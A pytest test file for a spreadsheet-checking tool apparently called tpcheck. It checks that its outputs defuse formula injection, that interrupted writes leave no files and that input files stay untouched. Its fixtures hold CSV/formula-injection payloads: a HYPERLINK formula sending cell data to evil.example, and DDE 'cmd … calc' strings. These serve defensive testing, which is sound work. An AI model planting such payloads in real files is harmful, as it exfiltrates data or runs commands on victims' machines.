"""Issue 8, what tpcheck writes and leaves: every command (template, check, merge, publish, diff)
leaves its inputs byte-identical; every workbook and CSV it writes holds no formula it did not put
there itself (text that looks like one is stored as text); an interrupted write leaves no file
behind; an output onto an input, or a full disk, is refused with exit code 2 and a Russian
message. The commands run in process through ``tpcheck.cli.main``."""

from __future__ import annotations

import csv
import errno
import hashlib
import re
import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

import tpcheck
import tpcheck.write
from tpcheck.cli import main
from tpcheck.publish import model as publish_model
from tpcheck.publish import opendata as publish_opendata

from .conftest import ROOT
from .read_helpers import quiet, write_book, xlsxwriter_book

CLASSIFIERS_FILE = ROOT / "tpcheck" / "data" / "classifiers.toml"
RISKY = ("=", "+", "-", "@")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
#: formula-looking texts in free-text cells of a valid row: they reach every output
TEXTS = {
    "activity": EVIL,
    "touchpoint": "@SUM(1+1)*cmd|' /C calc'!A0",
    "procedure": "+1 день",
    "basis": "-1",
    "note": "=1+1",
}
#: formula-looking texts in list cells: findings quote them (error reports, return copies)
WRONG = {"channel": "=1+1", "client": "+1", "direction": "@SUM(1)"}
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _snapshot(*roots: Path) -> dict[str, str]:
    """sha256 of every file below (or at) *roots*."""
    found = {}
    for root in roots:
        for path in sorted([root] if root.is_file() else root.rglob("*")):
            if path.is_file():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """Every command run once on inputs full of formula-looking text; per command its exit code,
    the snapshot of its inputs before and after, and its output folder."""
    root = tmp_path_factory.mktemp("hostile-outputs")
    old, new, out = root / "vhod", root / "vhod_new", root / "out"
    old.mkdir()
    new.mkdir()
    xlsxwriter_book(old / "отдел.xlsx", [quiet(1, **TEXTS), quiet(2, **WRONG), quiet(3)], text=True)
    (old / "письмо.xlsx").write_text("=1+1;@SUM(1)", encoding="utf-8")  # unreadable
    (old / "readme.txt").write_text("+7 913", encoding="utf-8")  # skipped
    changed = {**TEXTS, "procedure": EVIL, "note": "-2"}
    rows = [quiet(1, **changed), quiet(4, touchpoint="-1 канал")]
    xlsxwriter_book(new / "отдел.xlsx", rows, text=True)
    roster = root / "roster.txt"
    roster.write_text("Отдел кадров\n=cmd|' /C calc'!A0\n", encoding="utf-8")
    classifiers = root / "classifiers.toml"
    shutil.copy(CLASSIFIERS_FILE, classifiers)
    consolidated = out / "merge" / "perechen_svodny.xlsx"
    common = ["--classifiers", str(classifiers)]
    commands = {
        "template": ["template", "-o", str(out / "template" / "shablon.xlsx")],
        "check": ["check", str(old / "отдел.xlsx"), "-o", str(out / "check")],
        "merge": ["merge", str(old), "-o", str(out / "merge"), "--roster", str(roster)],
        "publish": ["publish", str(consolidated), "-o", str(out / "publish")],
        "diff": ["diff", str(old), str(new), "-o", str(out / "diff")],
    }
    (out / "template").mkdir(parents=True)
    (out / "publish_from_files").mkdir()
    commands["publish_from_files"] = ["publish", str(old), "-o", str(out / "publish_from_files")]
    results = {}
    for name, argv in commands.items():
        inputs = [old, new, roster, classifiers] + ([consolidated] if consolidated.exists() else [])
        before = _snapshot(*inputs)
        code = main([*argv, *common, "--lang", "ru"] if name != "publish" else [*argv, *common])
        results[name] = (code, before, _snapshot(*inputs))
    return {"out": out, "old": old, "new": new, "runs": results, "consolidated": consolidated}


# ------------------------------------------------------------------------------ inputs


@pytest.mark.parametrize(
    "command", ["template", "check", "merge", "publish", "publish_from_files", "diff"]
)
def test_inputs_are_byte_identical_after_every_command(runs, command):
    code, before, after = runs["runs"][command]
    assert code in (0, 1), code
    assert after == before  # same files, same bytes: nothing changed, added or removed
    assert len(before) >= 5


# ------------------------------------------------------------------------------ formulas


def _shared_strings(archive: zipfile.ZipFile) -> list[str]:
    if "xl/sharedStrings.xml" not in archive.namelist():
        return []
    root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
    return ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in root]


def _quoted_styles(archive: zipfile.ZipFile) -> set[int]:
    root = ElementTree.fromstring(archive.read("xl/styles.xml"))
    xfs = root.find("m:cellXfs", NS)
    return {i for i, xf in enumerate(xfs) if xf.get("quotePrefix") in ("1", "true")}


def workbook_cells(path: Path) -> tuple[list[str], list[str], list[str]]:
    """(cell formulas, formula-looking texts stored with the «text» mark, formula-looking texts
    stored without it) of every worksheet of *path*, read from the XML itself."""
    formulas, marked, unmarked = [], [], []
    with zipfile.ZipFile(path) as archive:
        strings = _shared_strings(archive)
        quoted = _quoted_styles(archive)
        for name in archive.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            for cell in ElementTree.fromstring(archive.read(name)).iter(f"{{{NS['m']}}}c"):
                formula = cell.find("m:f", NS)
                if formula is not None:
                    formulas.append(f"{name} {cell.get('r')}: {formula.text}")
                kind = cell.get("t")
                if kind == "s":
                    text = strings[int(cell.find("m:v", NS).text)]
                elif kind == "inlineStr":
                    text = "".join(t.text or "" for t in cell.iter(f"{{{NS['m']}}}t"))
                else:
                    continue
                if text.startswith(RISKY):
                    where = f"{path.name} {name} {cell.get('r')}: {text}"
                    (marked if int(cell.get("s", 0)) in quoted else unmarked).append(where)
    return formulas, marked, unmarked


def csv_fields(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [field for row in csv.reader(text.splitlines(), delimiter=";") for field in row]


def test_written_workbooks_hold_no_formula_and_formula_texts_stay_text(runs):
    workbooks = sorted(runs["out"].rglob("*.xlsx"))
    names = {p.relative_to(runs["out"]).as_posix() for p in workbooks}
    assert {
        "template/shablon.xlsx",
        "check/oshibki.xlsx",
        "check/отдел_zamechaniya.xlsx",
        "merge/perechen_svodny.xlsx",
        "merge/oshibki.xlsx",
        "merge/vozvrat/отдел_zamechaniya.xlsx",
        "merge/vozvrat/письмо_zamechaniya.xlsx",
        "publish/perechen.xlsx",
        "diff/changes.xlsx",
    } <= names
    risky_texts = 0
    for path in workbooks:
        formulas, marked, unmarked = workbook_cells(path)
        assert formulas == [], path  # tpcheck writes values only, never a formula
        assert unmarked == [], path  # and text that looks like one keeps the «text» mark
        risky_texts += len(marked)
    # the inputs' texts did reach the workbooks (so the test is not vacuous)
    for name in ("merge/perechen_svodny.xlsx", "publish/perechen.xlsx", "diff/changes.xlsx"):
        assert any(EVIL in m for m in workbook_cells(runs["out"] / name)[1]), name
    assert risky_texts >= 20


def test_written_csv_fields_never_start_like_a_formula(runs):
    files = sorted(runs["out"].rglob("*.csv"))
    assert {p.relative_to(runs["out"]).as_posix() for p in files} >= {
        "check/oshibki.csv",
        "merge/oshibki.csv",
        "publish/perechen.csv",
    }
    defused = 0
    for path in files:
        for field in csv_fields(path):
            assert not field.startswith((*RISKY, "\t", "\r")), (path.name, field)
            defused += field.startswith(("'=", "'+", "'-", "'@"))
    assert defused >= 5
    assert "'" + EVIL in csv_fields(runs["out"] / "publish" / "perechen.csv")
    assert "'=1+1" in csv_fields(runs["out"] / "merge" / "oshibki.csv")


def test_html_pages_link_nowhere_outside(runs):
    pages = sorted(runs["out"].rglob("*.html"))
    assert len(pages) >= 5
    for path in pages:
        page = path.read_text(encoding="utf-8")
        assert not re.search(r"""(?:href|src)\s*=\s*["']?[^"'#\s>]*evil""", page), path
        assert "<script>alert" not in page


# ------------------------------------------------------------------------------ atomicity


def _files(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _raise_after(module, name: str, calls: int = 0):
    """Replace *module.name* by a writer that works *calls* times, then writes half a file
    and fails (a full disk, a crash) — the writers before it have finished their files."""
    original = getattr(module, name)
    seen = []

    def broken(*args, **kwargs):
        if len(seen) < calls:
            seen.append(name)
            return original(*args, **kwargs)
        target = next(a for a in args if isinstance(a, str | Path))
        Path(target).write_bytes(b"PK\x03\x04 half")
        raise OSError(errno.ENOSPC, "No space left on device", str(target))

    return broken


@pytest.mark.parametrize(
    ("command", "module", "name", "calls"),
    [
        ("merge", tpcheck.write, "write_errors_csv", 0),  # after the consolidated workbook
        ("check", tpcheck.write, "write_report_json", 0),
        ("publish", publish_model, "write_csv", 0),  # after the xlsx and the HTML page
        ("publish", publish_model, "write_json", 1),  # after every file but the last
        ("diff", publish_opendata, "write_json", 0),  # after changes.xlsx and changes.html
        (
            "template",
            tpcheck.templates.perechen,
            "write_hidden_lists",
            0,
        ),  # inside the only workbook
    ],
)
def test_an_interrupted_write_leaves_the_folder_as_it_was(
    tmp_path, monkeypatch, capsys, command, module, name, calls
):
    inbox = tmp_path / "vhod"
    write_book(inbox / "отдел.xlsx", [quiet(1), quiet(2)])
    out = tmp_path / "out"
    argv = {
        "merge": ["merge", str(inbox), "-o", str(out)],
        "check": ["check", str(inbox / "отдел.xlsx"), "-o", str(out)],
        "publish": ["publish", str(inbox), "-o", str(out)],
        "diff": ["diff", str(inbox), str(inbox), "-o", str(out)],
        "template": ["template", "-o", str(out / "shablon.xlsx")],
    }[command]
    out.mkdir()
    assert main(argv) in (0, 1)  # a first, complete run
    capsys.readouterr()
    earlier = _files(out)
    assert earlier
    if name == "write_hidden_lists":

        def broken(book, *args):
            raise OSError(errno.ENOSPC, "No space left on device", book.filename)

        monkeypatch.setattr(module, name, broken)
    else:
        monkeypatch.setattr(module, name, _raise_after(module, name, calls))
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert (
        err.startswith("Ошибка: не удалось прочитать или записать «")
        and "нет места на диске" in err
    )
    assert ".part" not in err  # the file named is the result, not its temporary
    assert _files(out) == earlier  # the earlier results, whole; nothing half-written, no *.part


def test_an_exception_while_writing_in_the_library_leaves_no_file(tmp_path, monkeypatch):
    inbox = tmp_path / "vhod"
    write_book(inbox / "отдел.xlsx", [quiet(1)])
    monkeypatch.setattr(publish_model, "write_json", _raise_after(publish_model, "write_json"))
    with pytest.raises(OSError):
        tpcheck.publish(inbox).write(tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


# ------------------------------------------------------------------------------ refusals


def _inputs(tmp_path: Path) -> tuple[Path, Path, Path]:
    inbox = tmp_path / "vhod"
    book = write_book(inbox / "отдел.xlsx", [quiet(1)])
    consolidated = tmp_path / "svod"
    assert main(["merge", str(inbox), "-o", str(consolidated)]) == 0
    return inbox, book, consolidated / "perechen_svodny.xlsx"


@pytest.mark.parametrize(
    "argv",
    [
        ["merge", "{book}", "-o", "{book}"],
        ["merge", "{inbox}", "-o", "{inbox}"],
        ["check", "{book}", "-o", "{book}"],
        ["check", "{inbox}", "-o", "{inbox}"],
        ["publish", "{svod}", "-o", "{svod}"],
        ["publish", "{inbox}", "-o", "{inbox}"],
        ["diff", "{inbox}", "{svod}", "-o", "{svod}"],
        ["diff", "{inbox}", "{svod}", "-o", "{inbox}"],
        ["template", "--classifiers", "{classifiers}", "-o", "{classifiers}"],
    ],
    ids=lambda argv: " ".join(argv),
)
def test_an_output_onto_an_input_is_refused(tmp_path, capsys, argv):
    inbox, book, svod = _inputs(tmp_path)
    classifiers = Path(shutil.copy(CLASSIFIERS_FILE, tmp_path / "classifiers.toml"))
    values = {"book": book, "inbox": inbox, "svod": svod, "classifiers": classifiers}
    capsys.readouterr()
    before = _snapshot(inbox, svod, classifiers)
    code = main([part.format(**values) for part in argv])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith("Ошибка: ") and re.search(
        "один из входных файлов|одна из входных папок|это файл, а нужна папка"
        "|укажите имя с расширением .xlsx",  # a template over the classifiers' .toml
        err,
    ), err
    assert _snapshot(inbox, svod, classifiers) == before  # nothing written, nothing changed
